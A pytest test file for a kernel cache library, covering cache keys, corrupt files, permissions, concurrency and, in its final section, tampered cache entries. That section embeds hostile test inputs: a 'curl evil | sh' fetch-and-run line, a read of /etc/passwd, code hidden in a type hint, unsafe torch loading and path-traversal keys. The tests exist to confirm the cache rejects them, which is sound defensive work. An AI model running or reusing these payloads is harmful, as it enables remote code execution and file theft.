"""lego_core.search.cache: keys, round trips, concurrent writers, broken files and folders."""
import json
import logging
import multiprocessing
import os
import shutil
import threading

import pytest
import torch

from lego_core.search import cache as cache_mod
from lego_core.search.cache import FORMAT_VERSION, CacheEntry, KernelCache, cache_key, codegen_hash, codegen_sources, default_cache_dir

KEY_ARGS = {"signature": "abc123", "device": "cpu", "dtype": "float32", "agent": "template", "config_key": {"use_triton": True, "verify_seeds": [1, 2, 3]}}


def make_entry(source="import triton\n", **changes) -> CacheEntry:
    fields = dict(
        signature="abc123",
        agent="template",
        source=source,
        kernel_name="sp001_relu",
        transcript=[("user", "solve sp001"), ("assistant", "here it is")],
        tokens=12,
        passed=source is not None,
        reason="" if source is not None else "declined",
        max_abs_error=1.5e-7 if source is not None else None,
        time_ms=0.0123,
        time_kind="estimated",
        created=1700000000.5,
        origin="run 7 mlp_residual",
    )
    fields.update(changes)
    return CacheEntry(**fields)


def key(**changes) -> str:
    return cache_key(**{**KEY_ARGS, **changes})


# --- keys ------------------------------------------------------------------


def test_key_is_sha256_hex_and_stable():
    k = key()
    assert len(k) == 64 and int(k, 16) >= 0
    assert key() == k
    assert key(dtype=torch.float32) == k  # a torch.dtype and its name are the same dtype
    assert key(config_key={"verify_seeds": [1, 2, 3], "use_triton": True}) == k  # dict order does not matter


@pytest.mark.parametrize(
    "change",
    [
        {"signature": "abc124"},
        {"device": "cuda NVIDIA H200"},
        {"dtype": "bfloat16"},
        {"agent": "llm:gpt"},
        {"config_key": {"use_triton": True, "verify_seeds": [1, 2, 4]}},
        {"config_key": {"use_triton": True, "verify_seeds": [1, 2, 3], "force_triton": True}},
    ],
)
def test_key_changes_with_each_input(change):
    assert key(**change) != key()


def test_key_changes_with_library_versions(monkeypatch):
    import triton

    before = key()
    monkeypatch.setattr(torch, "__version__", "99.0.0+patched")
    assert key() != before
    after_torch = key()
    monkeypatch.setattr(triton, "__version__", "99.0.0")
    assert key() != after_torch


def test_codegen_sources_cover_templates_and_generators():
    names = {p.name for p in codegen_sources()}
    assert {"kernel_file.py.j2", "codegen.py", "expressions.py", "policy.py", "groups.py"} <= names
    assert all(p.suffix in (".py", ".j2") for p in codegen_sources())


def test_key_changes_when_a_template_changes(tmp_path, monkeypatch):
    for name in ("agents", "tree/fusion"):
        shutil.copytree(cache_mod._PACKAGE / name, tmp_path / name, ignore=shutil.ignore_patterns("__pycache__"))
    monkeypatch.setattr(cache_mod, "CODEGEN_ROOTS", (tmp_path / "agents", tmp_path / "tree" / "fusion"))
    template = tmp_path / "agents" / "template" / "templates" / "kernel_file.py.j2"
    original = template.read_text()
    base_hash, base_key = codegen_hash(), key()

    template.write_text(original + "{# one more comment #}\n")
    assert codegen_hash() != base_hash
    assert key() != base_key

    # Same length, different text: the memo must not hide the change.
    template.write_text(original.replace("a", "b", 1))
    assert len(template.read_text()) == len(original)
    assert codegen_hash() != base_hash

    template.write_text(original)
    assert codegen_hash() == base_hash
    assert key() == base_key

    (tmp_path / "tree" / "fusion" / "new_rule.py").write_text("X = 1\n")  # a new source file counts too
    assert codegen_hash() != base_hash


def test_key_changes_when_the_judge_changes(tmp_path, monkeypatch):
    """A cached "no kernel passed" is the answer of the verifier that gave
    it: after the verifier changes, the agent is asked again."""
    (tmp_path / "judge").mkdir()
    for name in cache_mod.JUDGE_FILES:
        shutil.copy(cache_mod._PACKAGE / name, tmp_path / name)
    monkeypatch.setattr(cache_mod, "_PACKAGE", tmp_path)
    base_key = key()
    verifier = tmp_path / "judge" / "verify.py"
    verifier.write_text(verifier.read_text() + "\n# a changed tolerance\n")
    assert key() != base_key
    assert set(cache_mod.JUDGE_FILES) >= {"judge/verify.py", "judge/verify_policy.py", "judge/static_check.py"}


# --- round trip ------------------------------------------------------------


def test_round_trip(tmp_path):
    cache = KernelCache(tmp_path)
    k = key()
    assert cache.get(k) is None
    entry = make_entry()
    cache.put(k, entry)
    assert cache.path(k) == tmp_path / k[:2] / f"{k}.json"
    assert cache.path(k).is_file()
    assert cache.get(k) == entry
    stored = json.loads(cache.path(k).read_text())
    assert stored["format"] == FORMAT_VERSION and stored["key"] == k
    assert (cache.hits, cache.misses, cache.writes) == (1, 1, 1)
    # a fresh object (another worker) reads the same file
    assert KernelCache(tmp_path).get(k) == entry


def test_negative_entries_round_trip(tmp_path):
    cache = KernelCache(tmp_path)
    entry = make_entry(source=None, time_ms=None, time_kind="estimated")
    cache.put(key(), entry)
    got = cache.get(key())
    assert got == entry and got.source is None and got.passed is False


def test_put_replaces(tmp_path):
    cache = KernelCache(tmp_path)
    cache.put(key(), make_entry(tokens=1))
    cache.put(key(), make_entry(tokens=2))
    assert cache.get(key()).tokens == 2
    assert [p.name for p in cache.path(key()).parent.iterdir()] == [f"{key()}.json"]  # no temporary files left


def test_default_dir(monkeypatch, tmp_path):
    monkeypatch.setenv("LEGO_CACHE_DIR", str(tmp_path / "c"))
    assert default_cache_dir() == tmp_path / "c"
    assert KernelCache(None).root == tmp_path / "c"
    monkeypatch.delenv("LEGO_CACHE_DIR")
    monkeypatch.setenv("HOME", str(tmp_path))
    assert default_cache_dir() == tmp_path / ".cache" / "lego" / "kernels"


def test_malformed_key_is_a_programming_error(tmp_path):
    with pytest.raises(ValueError):
        KernelCache(tmp_path).get("../../etc/passwd")


# --- disabled cache --------------------------------------------------------


def test_disabled_cache_misses_and_writes_nothing(tmp_path):
    KernelCache(tmp_path).put(key(), make_entry())
    off = KernelCache(tmp_path / "off", enabled=False)
    off.put(key(), make_entry())
    assert not (tmp_path / "off").exists()
    assert KernelCache(tmp_path, enabled=False).get(key()) is None  # even when the file exists
    assert (off.hits, off.writes) == (0, 0)


# --- broken files ----------------------------------------------------------


def _write_raw(cache: KernelCache, k: str, data) -> None:
    path = cache.path(k)
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data if isinstance(data, bytes) else data.encode())


@pytest.mark.parametrize(
    "mangle",
    [
        lambda text, k: text[: len(text) // 2],  # truncated
        lambda text, k: "",  # empty (a crash before the data reached the disk)
        lambda text, k: b"\xff\xfe\x00garbage",  # not UTF-8
        lambda text, k: "[1, 2]",  # not an object
        lambda text, k: text.replace(f'"format": {FORMAT_VERSION}', '"format": 999'),  # another version
        lambda text, k: text.replace(k, "0" * 64),  # another key's file
        lambda text, k: json.dumps({"format": FORMAT_VERSION, "key": k, "entry": {"signature": "x"}}),  # missing fields
        lambda text, k: json.dumps({"format": FORMAT_VERSION, "key": k, "entry": {**make_entry().to_dict(), "transcript": 5}}),
    ],
    ids=["truncated", "empty", "binary", "list", "version", "wrong-key", "fields", "transcript"],
)
def test_broken_file_is_a_logged_miss(tmp_path, caplog, mangle):
    cache = KernelCache(tmp_path)
    k = key()
    cache.put(k, make_entry())
    _write_raw(cache, k, mangle(cache.path(k).read_text(), k))
    with caplog.at_level(logging.WARNING, logger="lego_core.search.cache"):
        assert cache.get(k) is None
    assert cache.misses == 1
    assert str(cache.path(k)) in caplog.text  # the log names the broken file
    cache.put(k, make_entry())  # and the next write repairs it
    assert cache.get(k) == make_entry()


def test_missing_file_is_a_quiet_miss(tmp_path, caplog):
    with caplog.at_level(logging.WARNING, logger="lego_core.search.cache"):
        assert KernelCache(tmp_path / "nowhere").get(key()) is None
    assert caplog.text == ""


# --- unwritable folders ----------------------------------------------------


def test_root_that_is_a_file_degrades_with_one_warning(tmp_path, caplog):
    blocker = tmp_path / "file"
    blocker.write_text("not a folder")
    cache = KernelCache(blocker)
    with caplog.at_level(logging.WARNING, logger="lego_core.search.cache"):
        for _ in range(3):
            cache.put(key(), make_entry())
            assert cache.get(key()) is None
    assert caplog.text.count("cannot write") == 1
    assert cache.writable is False and cache.writes == 0


@pytest.mark.skipif(hasattr(os, "geteuid") and os.geteuid() == 0, reason="root writes into read-only folders")
def test_read_only_folder_still_serves_reads(tmp_path, caplog):
    KernelCache(tmp_path).put(key(), make_entry())
    shard = tmp_path / key()[:2]
    os.chmod(shard, 0o500)
    os.chmod(tmp_path, 0o500)
    try:
        cache = KernelCache(tmp_path)
        with caplog.at_level(logging.WARNING, logger="lego_core.search.cache"):
            cache.put(key(), make_entry(tokens=99))
            cache.put(key(signature="other"), make_entry())
        assert caplog.text.count("cannot write") == 1
        assert cache.get(key()) == make_entry()
    finally:
        os.chmod(tmp_path, 0o700)
        os.chmod(shard, 0o700)


# --- concurrency -----------------------------------------------------------


def _worker(args):
    """Child process: write a shared key and an own key many times, reading
    the shared key after every write; returns how many reads failed."""
    root, worker, shared, own, rounds = args
    cache = KernelCache(root)
    failures = 0
    for i in range(rounds):
        cache.put(shared, make_entry(tokens=worker, origin=f"worker {worker} round {i}"))
        cache.put(own, make_entry(tokens=worker))
        got = cache.get(shared)
        failures += got is None or got.signature != "abc123"
    return failures


@pytest.mark.skipif("fork" not in multiprocessing.get_all_start_methods(), reason="needs fork")
def test_concurrent_processes_leave_readable_files(tmp_path):
    shared = key()
    own = [key(signature=f"own{w}") for w in range(6)]
    jobs = [(str(tmp_path), w, shared, own[w], 40) for w in range(6)]
    with multiprocessing.get_context("fork").Pool(6) as pool:
        failures = pool.map(_worker, jobs)
    assert failures == [0] * 6
    cache = KernelCache(tmp_path)
    assert cache.get(shared).tokens in range(6)
    assert [cache.get(k).tokens for k in own] == list(range(6))
    assert not list(tmp_path.rglob("*.tmp"))  # every temporary file was renamed


def test_threads_share_one_cache(tmp_path):
    cache = KernelCache(tmp_path)
    keys = [key(signature=f"s{i}") for i in range(8)]
    errors = []

    def work(t):
        try:
            for i, k in enumerate(keys):
                if cache.get(k) is None:
                    cache.put(k, make_entry(tokens=t))
                assert cache.get(k) is not None
        except Exception as exc:  # noqa: BLE001 - reported below
            errors.append(exc)

    threads = [threading.Thread(target=work, args=(t,)) for t in range(8)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert errors == []
    assert cache.hits + cache.misses == 8 * 8 * 2
    assert cache.hits >= 8 * 8  # the second lookup of every round hits
    assert 8 <= cache.writes <= 8 * 8


def test_permission_error_keeps_reads(tmp_path, monkeypatch, caplog):
    """The same as the read-only folder, for any user (root ignores chmod)."""
    KernelCache(tmp_path).put(key(), make_entry())

    def refuse(path, text):
        raise PermissionError(13, "Permission denied", str(path))

    monkeypatch.setattr(cache_mod, "_write_atomically", refuse)
    cache = KernelCache(tmp_path)
    with caplog.at_level(logging.WARNING, logger="lego_core.search.cache"):
        cache.put(key(), make_entry(tokens=99))
        cache.put(key(signature="other"), make_entry())
    assert caplog.text.count("cannot write") == 1
    assert cache.get(key()) == make_entry()
    assert cache.stats() == {"root": str(tmp_path), "enabled": True, "writable": False, "hits": 1, "misses": 0, "writes": 0}


def test_scalars_are_stored_as_numbers_and_odd_values_are_skipped(tmp_path, caplog):
    import numpy as np

    cache = KernelCache(tmp_path)
    cache.put(key(), make_entry(max_abs_error=np.float32(0.25), time_ms=torch.tensor(1.5), tokens=np.int64(3)))
    got = cache.get(key())
    assert (got.max_abs_error, got.time_ms, got.tokens) == (0.25, 1.5, 3)
    with caplog.at_level(logging.ERROR, logger="lego_core.search.cache"):
        cache.put(key(signature="odd"), make_entry(max_abs_error=object()))
    assert "not JSON-ready" in caplog.text
    assert cache.get(key(signature="odd")) is None and cache.writes == 1


# --- the writer is the trusted parent (issue 11) -----------------------------

GOOD_KERNEL = '''import torch
import triton
import triton.language as tl


@triton.jit
def relu_kernel(x_ptr, y_ptr, n, BLOCK: tl.constexpr):
    offs = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    mask = offs < n
    tl.store(y_ptr + offs, tl.maximum(tl.load(x_ptr + offs, mask=mask), 0.0), mask=mask)


def launch(x, out=None):
    y = torch.empty_like(x) if out is None else out[0]
    relu_kernel[(triton.cdiv(x.numel(), 1024),)](x, y, x.numel(), BLOCK=1024)
    return y
'''


def test_an_entry_whose_source_was_edited_after_writing_is_ignored(tmp_path, caplog):
    """The attack of issue 11: Python appended to a cache entry's source.
    The hash recorded by the writer no longer matches: a logged miss."""
    cache = KernelCache(tmp_path)
    k = key()
    cache.put(k, make_entry(GOOD_KERNEL))
    path = cache.path(k)
    stored = json.loads(path.read_text())
    assert stored["source_sha256"] == cache_mod.source_hash(GOOD_KERNEL)
    stored["entry"]["source"] += "\nimport os\nos.system('echo planted')\n"
    path.write_text(json.dumps(stored))
    with caplog.at_level(logging.WARNING, logger="lego_core.search.cache"):
        assert KernelCache(tmp_path).get(k) is None
    assert "does not match the hash" in caplog.text


def test_an_entry_without_a_recorded_hash_is_ignored(tmp_path):
    cache = KernelCache(tmp_path)
    k = key()
    cache.put(k, make_entry(GOOD_KERNEL))
    stored = json.loads(cache.path(k).read_text())
    del stored["source_sha256"]
    cache.path(k).write_text(json.dumps(stored))
    assert KernelCache(tmp_path).get(k) is None


SIGNATURE = "0123abcd4567ef89"  # SubProblem.signature: 16 hex digits


def parent_key(signature: str) -> str:
    """The key the parent computes for a forwarded entry (``api._key_for``)."""
    return key(signature=signature)


def forwarded(source=None, **changes) -> dict:
    entry = make_entry(GOOD_KERNEL if source is None else source, signature=SIGNATURE, **changes)
    return {"key": parent_key(SIGNATURE), "entry": json.loads(json.dumps(entry.to_dict()))}


def test_a_child_cache_forwards_entries_instead_of_writing(tmp_path):
    sent = []
    child = KernelCache(tmp_path, forward=sent.append)
    k = parent_key(SIGNATURE)
    child.put(k, make_entry(GOOD_KERNEL, signature=SIGNATURE))
    assert not any(tmp_path.iterdir()), "the child's cache wrote a file"
    assert child.writes == 1 and sent[0]["key"] == k
    parent = KernelCache(tmp_path)
    assert cache_mod.store_forwarded(parent, json.loads(json.dumps(sent[0])), parent_key, origin="run 1 of m") is True
    assert KernelCache(tmp_path).get(k).source == GOOD_KERNEL


ROUTE_KERNELS = [
    GOOD_KERNEL + "\nimport typing\n\ndef f(x: \"__import__('os').system('id')\"):\n    pass\n\nH = typing.get_type_hints(f)\n",
    GOOD_KERNEL + "\nM = torch.hub.load('someone/repo', 'model')\n",
    GOOD_KERNEL + "\nE = torch.utils.cpp_extension.load_inline('x', 'int f() { return 0; }')\n",
    GOOD_KERNEL + "\nW = torch.load('w.pt', weights_only=False)\n",
    GOOD_KERNEL + "\ntorch.ops.load_library('/tmp/x.so')\n",
    GOOD_KERNEL + "\nimport functools\n",
    GOOD_KERNEL + "\nK = type(launch).mro\n",
]


@pytest.mark.sandbox
@pytest.mark.parametrize("tamper", [
    lambda m: m["entry"].update(source=GOOD_KERNEL + "\nimport os\nos.system('curl evil | sh')\n"),
    lambda m: m["entry"].update(source=GOOD_KERNEL + "\nopen('/etc/passwd').read()\n"),
    lambda m: m["entry"].update(source=GOOD_KERNEL.replace("import torch", "import subprocess, torch")),
    lambda m: m["entry"].update(source="x = 1\n"),  # no kernel at all
    lambda m: m["entry"].update(source="A" * (cache_mod.MAX_SOURCE_CHARS + 1)),
    lambda m: m.update(key="../../etc/cron.d/x"),
    lambda m: m.update(entry={"signature": "abc"}),
    lambda m: m["entry"].update(passed=False),
    *[(lambda source: lambda m: m["entry"].update(source=source))(source) for source in ROUTE_KERNELS],
    lambda m: m.update(key=parent_key("ffffffffffffffff")),  # a key of the child's choosing: another signature's
    lambda m: m.update(key=key(signature=SIGNATURE, device="cuda:NVIDIA H200")),  # another device's
    lambda m: m["entry"].update(signature="../../x"),
    lambda m: m["entry"].update(kernel_name="../../../etc/x"),
    lambda m: m["entry"].update(agent="<script>"),
], ids=["os-system", "open", "subprocess-import", "no-kernel", "too-long", "bad-key", "malformed", "passed-disagrees",
        "get-type-hints", "torch-hub", "load-inline", "torch-load", "load-library", "functools", "type-mro",
        "child-chosen-key", "other-device-key", "bad-signature", "bad-kernel-name", "bad-agent"])
def test_the_parent_refuses_forwarded_entries_that_do_not_check(tmp_path, caplog, tamper):
    message = forwarded()
    tamper(message)
    parent = KernelCache(tmp_path)
    with caplog.at_level(logging.WARNING, logger="lego_core.search.cache"):
        assert cache_mod.store_forwarded(parent, message, parent_key) is False
    assert "not stored" in caplog.text
    assert not list(tmp_path.rglob("*.json"))


@pytest.mark.sandbox
def test_the_parent_keeps_no_negative_entry_from_the_child(tmp_path):
    """A forwarded "no kernel passed" would make every later run skip the
    signature (and keep the template's kernel out): not stored."""
    message = {"key": parent_key(SIGNATURE), "entry": make_entry(None, signature=SIGNATURE).to_dict()}
    assert cache_mod.store_forwarded(KernelCache(tmp_path), message, parent_key) is False
    assert not list(tmp_path.rglob("*.json"))


@pytest.mark.sandbox
def test_the_parent_writes_origin_and_time_itself(tmp_path):
    message = forwarded(origin="run 0 of <b>trusted</b>", created=0.0)
    assert cache_mod.store_forwarded(KernelCache(tmp_path), message, parent_key, origin="run 7 of mlp") is True
    entry = KernelCache(tmp_path).get(parent_key(SIGNATURE))
    assert entry.origin == "run 7 of mlp" and entry.created > 1.7e9


def test_the_parent_keys_a_run_from_what_it_knows(monkeypatch):
    """api._key_for: the child's key (search.cache.run_key, as search.cached calls it) for the
    run's device (a GPU's name from the parent's own probe), dtype, agent and
    config, never the child's word."""
    from lego_core import api
    from lego_core.runtime import gpu_probe
    from lego_core.config import OptimizeConfig
    from lego_core.load.spec import ProblemSpec

    config = OptimizeConfig()
    cpu = api._key_for(ProblemSpec("m.py", {}, dtype="bf16"), config)
    assert cpu(SIGNATURE) == cache_key(SIGNATURE, "cpu", "bfloat16", "template", config.key())
    monkeypatch.setattr(gpu_probe, "probe", lambda: {"name": "NVIDIA H200", "locks": []})
    cuda = api._key_for(ProblemSpec("m.py", {}, device="cuda"), config)
    assert cuda(SIGNATURE) == cache_key(SIGNATURE, "cuda:NVIDIA H200", "float32", "template", config.key())
